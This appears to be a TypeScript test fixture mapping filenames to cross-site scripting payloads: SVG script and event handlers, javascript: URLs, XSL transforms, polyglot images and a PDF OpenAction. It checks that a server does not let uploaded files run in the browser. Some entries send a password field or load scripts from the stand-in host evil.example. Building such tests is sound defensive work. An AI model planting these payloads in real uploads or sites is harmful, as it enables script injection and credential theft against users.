/** Files that browsers run when they are opened by themselves, by name. */
const svg = (content: string, attributes = '') =>
  `<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink" width="99" height="99" ${attributes}>${content}</svg>`;
const xhtml = (content: string) =>
  `<html xmlns="http://www.w3.org/1999/xhtml"><head><title>x</title></head><body>${content}</body></html>`;
const xml = (content: string, before = '') => `<?xml version="1.0"?>\n${before}\n<x>${content}</x>`;
const html = '<!DOCTYPE html><title>x</title><script>pwned()</script><img src=x onerror=pwned()>';
const script = '<script xmlns="http://www.w3.org/1999/xhtml">pwned()</script>';
const transform = `<xsl:stylesheet version="1.0" xmlns:xsl="http://www.w3.org/1999/XSL/Transform"><xsl:template match="/"><html><body><script>pwned()</script><img src="x" onerror="pwned()"/></body></html></xsl:template></xsl:stylesheet>`;

export const files: Readonly<Record<string, string>> = {
  'script.svg': svg('<script>pwned()</script>'),
  'load.svg': svg('<rect width="99" height="99" onclick="pwned()"/>', 'onload="pwned()" onclick="pwned()"'),
  'link.svg': svg('<a xlink:href="javascript:pwned()"><rect width="99" height="99"/></a>'),
  'animated.svg': svg(
    '<a><animate attributeName="href" values="javascript:pwned()"/><rect width="99" height="99"/></a>',
  ),
  'foreign.svg': svg(
    `<foreignObject width="99" height="99">${xhtml('<img src="x" onerror="pwned()"/><iframe src="javascript:parent.pwned()"></iframe>')}</foreignObject>`,
  ),
  'loads.svg': svg(
    '<image href="https://evil.example/a.png" width="9" height="9"/><style>@import url(https://evil.example/a.css);</style><script href="https://evil.example/a.js"/>',
  ),
  'entity.svg': `<!DOCTYPE svg [<!ENTITY x "&lt;script xmlns='http://www.w3.org/2000/svg'>pwned()&lt;/script>">]>${svg('&x;')}`,
  'styled.svg': `<?xml-stylesheet type="text/xsl" href="evil.xsl"?>${svg('')}`,
  'UPPER.SVG': svg('<script>pwned()</script>'),
  'page.html': html,
  'page.htm': html,
  'PAGE.HTML': html,
  'folder/index.html': html,
  'form.html':
    '<form action="https://evil.example/"><input name=password></form><script>document.forms[0].submit()</script>',
  'refresh.html':
    '<meta http-equiv=refresh content="0;url=javascript:pwned()"><base href=https://evil.example/><link rel=stylesheet href=a.css>',
  'worker.html': '<script>navigator.serviceWorker.register("/hostile/worker.js").then(pwned)</script>',
  'page.xhtml': xhtml('<script>pwned()</script><img src="x" onerror="pwned()"/>'),
  'page.xht': xhtml('<script>pwned()</script>'),
  'data.xml': xml(script),
  'transformed.xml': xml('', '<?xml-stylesheet type="text/xsl" href="evil.xsl"?>'),
  'evil.xsl': transform,
  'evil.xslt': transform,
  'data.rdf': xml(script),
  'feed.rss': `<rss version="2.0"><channel><title>x</title><description>${script}</description></channel></rss>`,
  'feed.atom': `<feed xmlns="http://www.w3.org/2005/Atom"><title type="xhtml">${script}</title></feed>`,
  'list.opml': xml(script),
  'map.kml': xml(script),
  'track.gpx': xml(script),
  'schema.xsd': xml(script),
  'formula.mml': `<math xmlns="http://www.w3.org/1998/Math/MathML" href="javascript:pwned()">${script}</math>`,
  'worker.js': 'pwned()',
  'module.mjs': 'pwned()',
  'text.txt': html,
  'text.csv': html,
  'text.css': `</style>${html}`,
  'text.vtt': `WEBVTT\n\n00:00.000 --> 00:09.000\n${html}`,
  'text.json': `["${html.replaceAll('"', '\\"')}"]`,
  'text.ics': html,
  'text.vcf': html,
  'text.webmanifest': html,
  'text.yaml': html,
  'text.toml': html,
  'image.png': html,
  'image.jpg': html,
  'image.gif': `GIF89a/*${html}*/=0;pwned()`,
  'image.ico': html,
  'sound.mp3': html,
  'film.mp4': html,
  'font.woff2': html,
  'paper.pdf':
    '%PDF-1.4\n1 0 obj<</Type/Catalog/OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj\ntrailer<</Root 1 0 R>>',
  unknown: html,
  'unknown.': html,
  'unknown.shtml': html,
  'unknown.mht': `MIME-Version: 1.0\nContent-Type: text/html\n\n${html}`,
  'unknown.hta': html,
  'unknown.php': html,
  'unknown.html.': html,
  'unknown.svgz': html,
  'unknown.swf': html,
  'unknown.jsp;.png.x': html,
};
